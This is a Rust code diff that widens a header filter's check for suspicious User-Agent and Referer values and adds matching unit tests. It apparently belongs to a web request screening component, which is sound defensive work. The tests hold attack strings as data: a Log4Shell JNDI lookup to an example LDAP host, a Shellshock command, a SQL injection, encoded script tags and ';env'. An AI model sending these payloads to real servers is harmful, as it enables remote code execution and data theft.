@@ -68,15 +68,20 @@ pub(super) fn is_plain(path: &str, query: &str) -> bool {
     plain != 0 && (pairs == 0 || !SENSITIVE.is_match(path))
 }
 
-/// Whether a header holds what agents and referring addresses are not made of: quotes, markup, `${`, `{`.
+/// Whether a header holds what agents and referring addresses are not made of: quotes, markup, braces,
+/// character references, a separator of commands at its beginning.
 pub(super) fn is_strange_header(text: &str) -> bool {
     let bytes = text.as_bytes();
     memchr::memchr3(b'<', b'\'', b'"', bytes).is_some()
-        || memchr::memchr3(b'$', b'{', b'`', bytes).is_some()
+        || memchr::memchr2(b'{', b'`', bytes).is_some()
         || memchr::memchr_iter(b'%', bytes).any(|at| {
             let digits = bytes.get(at + 1..at + 3).unwrap_or_default();
-            [b"3c", b"3C", b"27", b"22", b"24", b"7b", b"7B"].iter().any(|code| code.as_slice() == digits)
+            [b"3c", b"3C", b"27", b"22", b"7b", b"7B"].iter().any(|code| code.as_slice() == digits)
         })
+        || memchr::memchr_iter(b'&', bytes).any(|at| {
+            bytes.get(at + 1..).is_some_and(|rest| rest.starts_with(b"#") || rest.starts_with(b"lt"))
+        })
+        || matches!(bytes.first(), Some(b';' | b'|'))
 }
 
 /// Appends the decoded form of `text` to `out`: `+` is a space, percent-encoding is removed up to three
@@ -265,12 +270,19 @@ mod tests {
     fn only_strange_headers_are_looked_at() {
         for text in [
             "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
-            "https://www.example.com/search?q=red%20shoes&from=%2Fhome",
+            "https://www.example.com/search?q=red%20shoes&from=%2Fhome&$top=5&lang=en",
             "",
         ] {
             assert!(!is_strange_header(text), "{text}");
         }
-        for text in ["${jndi:ldap://h.example/a}", "() { :; }; id", "1' or '1'='1", "/?q=%3Cscript%3e"] {
+        for text in [
+            "${jndi:ldap://h.example/a}",
+            "() { :; }; id",
+            "1' or '1'='1",
+            "/?q=%3Cscript%3e",
+            "&#60;b",
+            ";env",
+        ] {
             assert!(is_strange_header(text), "{text}");
         }
     }
